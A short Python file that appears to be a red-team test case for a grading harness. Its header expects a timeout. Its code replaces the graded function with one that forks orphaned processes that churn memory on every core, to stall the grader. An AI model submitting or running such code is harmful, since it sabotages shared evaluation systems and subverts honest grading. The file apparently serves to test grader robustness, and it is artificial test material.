# attack: stall the grader rather than itself: children that map, touch and unmap memory on all cores
# asset: grades, time of others
# channel: time, memory
# beats otter: no
# expect: timed_out,not_implemented
# place: after
import mmap
import os
import time


def churn():
    while True:
        space = mmap.mmap(-1, 64 << 20)
        for place in range(0, 64 << 20, 4096):
            space[place] = 1
        space.close()


def attack(*args):
    for _ in range(10):
        try:
            if os.fork() == 0:
                if os.fork() == 0:
                    churn()
                os._exit(0)
        except OSError:
            break
    time.sleep(30)


product_gradients = attack
